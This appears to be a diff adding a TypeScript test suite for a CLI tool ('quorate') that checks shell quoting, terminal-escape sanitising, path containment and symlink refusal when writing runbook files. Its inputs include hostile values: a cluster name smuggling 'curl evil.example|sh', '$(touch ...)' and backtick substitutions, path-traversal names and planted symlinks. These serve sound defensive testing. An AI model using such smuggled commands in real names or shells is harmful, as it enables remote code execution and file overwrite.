@@ -1,0 +1,285 @@
+// Findings 1, 2, 5, 10 and 14 of the third hardening round at their boundary: the real file
+// system (symbolic links, /proc, /dev/full, folders and files in the way) and the real CLI.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { prepareFolder, writeFilesInto, writeOutputFile, OutputError } from "../../server/src/output";
+import { fileSegment, relativePathProblem } from "../../server/src/util/paths";
+import { shellLine, shellWord } from "../../server/src/util/shell";
+import { terminalText } from "../../server/src/util/terminal";
+import { codeSpan } from "../../server/src/util/markdown";
+import { HEADER, inTempDir } from "../helpers";
+
+/** Two sites with one cluster each; the first cluster's name is `first`. */
+const design = (first: string) => `${HEADER}sites:
+  - name: fra
+  - name: lon
+links:
+  - { between: [fra, lon], rttMs: 14 }
+clusters:
+  - name: ${JSON.stringify(first)}
+    site: fra
+    network: { pods: 10.10.0.0/16 }
+  - name: lon-prod
+    site: lon
+    network: { pods: 10.20.0.0/16 }
+`;
+
+const gameday = (out: string[]) => ["gameday", "--lose", "fra", "--namespace", "app", ...out, "d.topology.yaml"];
+
+test("shellWord: plain words stay, anything else is one quoted word the shell reads back exactly", () => {
+  assert.equal(shellWord("fra-prod"), "fra-prod");
+  assert.equal(shellWord("a/b.yaml"), "a/b.yaml");
+  assert.equal(shellWord("ok-a;curl evil.example|sh;"), "'ok-a;curl evil.example|sh;'");
+  assert.equal(shellWord("it's"), "'it'\\''s'");
+  assert.equal(shellWord(""), "''");
+  assert.equal(shellWord("$(id)"), "'$(id)'");
+  assert.equal(shellWord("a\nb"), "$'a\\x0ab'");
+  assert.equal(shellWord("x\x1b]0;pwned\x07"), "$'x\\x1b]0;pwned\\x07'");
+  assert.equal(shellWord("a\u202eb'c\\"), "$'a\\u202eb\\'c\\\\'");
+  assert.equal(shellLine(["kubectl", "--context", "a b", "apply"]), "kubectl --context 'a b' apply");
+});
+
+test("shellWord round-trips through a real POSIX shell for hostile words", { skip: !existsSync("/bin/bash") && "no /bin/bash" }, () => {
+  const { execFileSync } = require("node:child_process") as typeof import("node:child_process");
+  for (const w of [
+    "ok-a;curl evil.example|sh;",
+    "it's",
+    "$(touch /tmp/quorate-pwned)",
+    "`id`",
+    "a\nb",
+    "\x1b[2J",
+    "'\\'",
+    "-rf",
+    "*",
+    "~root",
+  ]) {
+    const out = execFileSync("/bin/bash", ["-c", `printf %s ${shellWord(w)}`], { encoding: "utf8" });
+    assert.equal(out, w, `round trip of ${JSON.stringify(w)}`);
+  }
+  assert.ok(!existsSync("/tmp/quorate-pwned"));
+});
+
+test("codeSpan shows backticks and pipes exactly, on one line", () => {
+  assert.equal(codeSpan("a`b"), "``a`b``");
+  assert.equal(codeSpan("`x`"), "`` `x` ``");
+  assert.equal(codeSpan("a|b", true), "`a\\|b`");
+  assert.equal(codeSpan("a\nb"), "`a b`");
+});
+
+test("terminalText: escapes become visible text; with colour only the CLI's own SGR codes survive", () => {
+  assert.equal(terminalText("a\x1b]0;title\x07b\rc\n\td"), "a\\x1b]0;title\\x07b\\rc\n\td");
+  assert.equal(terminalText("\x1b[31mred\x1b[0m", true), "\x1b[31mred\x1b[0m");
+  assert.equal(terminalText("\x1b[31mred\x1b[0m", false), "\\x1b[31mred\\x1b[0m");
+  assert.equal(terminalText("\x1b[2J\x1b[8m\x1b]8;;http://x\x07", true), "\\x1b[2J\\x1b[8m\\x1b]8;;http://x\\x07");
+  assert.equal(terminalText("\u009b2J"), "\\x9b2J");
+});
+
+test("fileSegment: portable names stay, others cannot climb out and never collide", () => {
+  assert.equal(fileSegment("fra-prod"), "fra-prod");
+  for (const n of [
+    "..",
+    ".",
+    "../escaped",
+    "/etc/passwd",
+    "a/b",
+    "a\\b",
+    ".git",
+    "con",
+    "-rf",
+    "",
+    "a\x1b",
+    "x".repeat(300),
+    "trailing.",
+  ]) {
+    const s = fileSegment(n);
+    assert.match(s, /^[A-Za-z0-9_][A-Za-z0-9_-]*$/, `${JSON.stringify(n)} → ${s}`);
+    assert.ok(s.length <= 60);
+    assert.equal(relativePathProblem(s), undefined);
+  }
+  assert.notEqual(fileSegment("a/b"), fileSegment("a\\b"));
+  assert.notEqual(fileSegment("a b"), fileSegment("a-b"));
+});
+
+test("relativePathProblem refuses every way out of the folder", () => {
+  for (const p of ["", "/abs", "C:/x", "a/../b", "..", "./a", "a//b", "a\\b", "a\0b", "a/"]) assert.ok(relativePathProblem(p), p);
+  assert.equal(relativePathProblem("fra-prod/networkchaos.yaml"), undefined);
+});
+
+test("writeFilesInto: inside the folder only, never through a symlink, never over a file without force", () =>
+  inTempDir({ "victim.txt": "precious\n" }, (dir) => {
+    const out = join(dir, "out");
+    mkdirSync(out);
+    assert.throws(
+      () => writeFilesInto(out, [{ path: "../escaped", content: "x" }]),
+      /refusing to write '\.\.\/escaped': it has a '\.\.' segment/,
+    );
+    assert.throws(() => writeFilesInto(out, [{ path: "/tmp/abs", content: "x" }]), /absolute path/);
+    symlinkSync("../victim.txt", join(out, "RUNBOOK.md"));
+    assert.throws(
+      () => writeFilesInto(out, [{ path: "RUNBOOK.md", content: "x" }]),
+      /RUNBOOK\.md already exists \(a symbolic link: it is not followed\): not overwritten \(pass --force/,
+    );
+    // with force the link itself is replaced, never its target
+    writeFilesInto(out, [{ path: "RUNBOOK.md", content: "new" }], { force: true });
+    assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
+    assert.ok(lstatSync(join(out, "RUNBOOK.md")).isFile());
+    assert.equal(readFileSync(join(out, "RUNBOOK.md"), "utf8"), "new");
+    // a symlinked sub-folder is never entered, even with force
+    symlinkSync(dir, join(out, "fra-prod"));
+    assert.throws(
+      () => writeFilesInto(out, [{ path: "fra-prod/victim.txt", content: "x" }], { force: true }),
+      /fra-prod is a symbolic link \(not followed\)/,
+    );
+    assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
+    // nothing is written unless everything can be
+    assert.throws(
+      () =>
+        writeFilesInto(out, [
+          { path: "a.yaml", content: "x" },
+          { path: "RUNBOOK.md", content: "y" },
+        ]),
+      /already exists/,
+    );
+    assert.ok(!existsSync(join(out, "a.yaml")));
+    assert.throws(
+      () =>
+        writeFilesInto(out, [
+          { path: "A.yaml", content: "x" },
+          { path: "a.yaml", content: "y" },
+        ]),
+      /twice/,
+    );
+    // a FIFO or a folder in the way is refused even with force
+    mkdirSync(join(out, "d"));
+    assert.throws(() => writeFilesInto(out, [{ path: "d", content: "x" }], { force: true }), /cannot write .*d: it is a folder/);
+    assert.deepEqual(readdirSync(out).sort(), ["RUNBOOK.md", "d", "fra-prod"]);
+  }));
+
+test("prepareFolder: /proc/self answers at once, a file is not a folder, an empty name is refused", () =>
+  inTempDir({ "f.txt": "x" }, (dir) => {
+    assert.throws(() => prepareFolder("f.txt", dir), /f\.txt is not a regular file, not a folder|f\.txt is .* not a folder/);
+    assert.throws(() => prepareFolder("", dir), /empty/);
+    assert.equal(prepareFolder("a/b/c", dir), join(dir, "a", "b", "c"));
+    assert.ok(lstatSync(join(dir, "a", "b", "c")).isDirectory());
+    symlinkSync(dir, join(dir, "link"));
+    assert.throws(() => prepareFolder("link", dir, { followLink: false }), /link is a symbolic link: not followed/);
+    assert.equal(prepareFolder("link", dir), join(dir, "link"));
+    if (existsSync("/proc/self")) {
+      const abs = prepareFolder("/proc/self", dir);
+      assert.throws(() => writeFilesInto(abs, [{ path: "x/RUNBOOK.md", content: "x" }]), OutputError);
+      assert.throws(() => prepareFolder("/proc/self/quorate-x", dir), /cannot create \/proc\/self\/quorate-x: /);
+    }
+  }));
+
+test("writeOutputFile: a folder, /dev/full, a missing folder and an existing file each get one message", () =>
+  inTempDir({ "ADR.md": "old" }, (dir) => {
+    mkdirSync(join(dir, "docs"));
+    assert.throws(() => writeOutputFile("docs", "x", dir, { force: true }), /cannot write docs: it is a folder/);
+    assert.throws(() => writeOutputFile("ADR.md", "x", dir), /ADR\.md already exists: not overwritten \(pass --force/);
+    writeOutputFile("ADR.md", "new", dir, { force: true });
+    assert.equal(readFileSync(join(dir, "ADR.md"), "utf8"), "new");
+    assert.throws(() => writeOutputFile("nope/ADR.md", "x", dir), /cannot write nope\/ADR\.md: no such file or folder \(nope\)/);
+    assert.throws(() => writeOutputFile("ADR.md/x", "x", dir), /ADR\.md is not a folder/);
+    if (existsSync("/dev/full"))
+      assert.throws(
+        () => writeOutputFile("/dev/full", "x", dir, { force: true }),
+        /cannot write \/dev\/full: it is a device, not a regular file/,
+      );
+  }));
+
+test("quorate gameday: hostile cluster names stay inside -o, symlinks and existing files are refused, errors are one line", () =>
+  inTempDir({ "d.topology.yaml": design("../escaped"), "victim.txt": "precious\n" }, (dir, cli) => {
+    let r = cli(gameday(["-o", "out"]));
+    assert.equal(r.code, 0, r.stderr);
+    assert.ok(!existsSync(join(dir, "escaped")));
+    const inside = readdirSync(join(dir, "out")).sort();
+    assert.equal(inside.length, 3, inside.join(","));
+    assert.deepEqual(inside.filter((x) => x !== "RUNBOOK.md" && x !== "lon-prod").length, 1);
+    assert.match(inside[1], /^escaped-[0-9a-f]{8}$/);
+    // running again refuses to overwrite; --force replaces
+    r = cli(gameday(["-o", "out"]));
+    assert.equal(r.code, 2);
+    assert.match(r.stderr, /^quorate: .*already exists: not overwritten \(pass --force to replace it\)\n$/);
+    assert.equal(cli(gameday(["-o", "out", "--force"])).code, 0);
+    // a RUNBOOK.md planted as a symlink in the default folder
+    mkdirSync(join(dir, "planted"));
+    symlinkSync("../victim.txt", join(dir, "planted", "RUNBOOK.md"));
+    r = cli(gameday(["-o", "planted", "--force"]));
+    assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
+    r = cli(gameday(["-o", ""]));
+    assert.equal(r.code, 2);
+    assert.equal(r.stderr, "quorate: -o needs a file or folder name, not an empty string\n");
+    r = cli(gameday(["-o", "victim.txt"]));
+    assert.equal(r.code, 2);
+    assert.equal(r.stderr, "quorate: victim.txt is not a regular file, not a folder\n");
+  }));
+
+test("quorate gameday: an absolute cluster name, /proc/self and a default folder planted as a symlink", () =>
+  inTempDir({ "d.topology.yaml": design("/tmp/quorate-abs-escape") }, (dir, cli) => {
+    let r = cli(gameday(["-o", "o"]));
+    assert.equal(r.code, 0, r.stderr);
+    assert.ok(!existsSync("/tmp/quorate-abs-escape"));
+    if (existsSync("/proc/self")) {
+      r = cli(gameday(["-o", "/proc/self"]));
+      assert.equal(r.code, 2);
+      assert.match(r.stderr, /^quorate: cannot create \/proc\/self\/[^:]+: no such file or folder\n$/);
+    }
+    mkdirSync(join(dir, "elsewhere"));
+    symlinkSync(join(dir, "elsewhere"), join(dir, "gameday-lose-fra"));
+    r = cli(gameday([]));
+    assert.equal(r.code, 2);
+    assert.equal(r.stderr, "quorate: gameday-lose-fra is a symbolic link: not followed (choose the folder with -o)\n");
+    assert.deepEqual(readdirSync(join(dir, "elsewhere")), []);
+  }));
+
+test("the runbook's copy-paste lines carry names as single shell words", () =>
+  inTempDir({ "d.topology.yaml": design("ok-a;curl evil.example|sh;") }, (_dir, cli) => {
+    const r = cli([...gameday([]).slice(0, -1), "--format", "md", "d.topology.yaml"]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.ok(!/kubectl --context ok-a;curl/.test(r.stdout), r.stdout);
+    assert.match(
+      r.stdout,
+      /`kubectl --context 'ok-a;curl evil\.example\\\|sh;' apply -f ok-a-curl-evil-example-sh-[0-9a-f]{8}\/networkchaos\.yaml`/,
+    );
+  }));
+
+test("report, diagram: -o onto a folder, /dev/full, an existing file and an empty name are one message each", () =>
+  inTempDir({ "d.topology.yaml": design("fra-prod") }, (dir, cli) => {
+    mkdirSync(join(dir, "docs"));
+    for (const cmd of ["report", "diagram"]) {
+      let r = cli([cmd, "-o", "docs", "d.topology.yaml"]);
+      assert.deepEqual([r.code, r.stderr], [2, "quorate: cannot write docs: it is a folder\n"]);
+      r = cli([cmd, "-o", "docs", "--force", "d.topology.yaml"]);
+      assert.deepEqual([r.code, r.stderr], [2, "quorate: cannot write docs: it is a folder\n"]);
+      if (existsSync("/dev/full")) {
+        r = cli([cmd, "-o", "/dev/full", "--force", "d.topology.yaml"]);
+        assert.deepEqual([r.code, r.stderr], [2, "quorate: cannot write /dev/full: it is a device, not a regular file\n"]);
+      }
+      const out = `${cmd}.md`;
+      assert.equal(cli([cmd, "-o", out, "d.topology.yaml"]).code, 0);
+      writeFileSync(join(dir, out), "edited by hand");
+      r = cli([cmd, "-o", out, "d.topology.yaml"]);
+      assert.deepEqual([r.code, r.stderr], [2, `quorate: ${out} already exists: not overwritten (pass --force to replace it)\n`]);
+      assert.equal(readFileSync(join(dir, out), "utf8"), "edited by hand");
+      assert.equal(cli([cmd, "-o", out, "--force", "d.topology.yaml"]).code, 0);
+      assert.notEqual(readFileSync(join(dir, out), "utf8"), "edited by hand");
+      r = cli([cmd, "--output=", "d.topology.yaml"]);
+      assert.deepEqual([r.code, r.stderr], [2, "quorate: --output needs a file or folder name, not an empty string\n"]);
+    }
+  }));
+
+test("the CLI never prints a name's escape sequences raw", () =>
+  inTempDir({ "d.topology.yaml": design("evil\x1b]0;pwned\x07\x1b[2J") }, (_dir, cli) => {
+    for (const argv of [
+      ["check", "d.topology.yaml"],
+      ["simulate", "--lose", "fra", "d.topology.yaml"],
+      ["report", "d.topology.yaml"],
+      ["diagram", "d.topology.yaml"],
+      [...gameday([]).slice(0, -1), "--format", "md", "d.topology.yaml"],
+    ]) {
+      const r = cli(argv);
+      assert.ok(!/[\x07\x1b]/.test(r.stdout + r.stderr), `${argv[0]}: ${JSON.stringify(r.stdout.slice(0, 300))}`);
+    }
+  }));
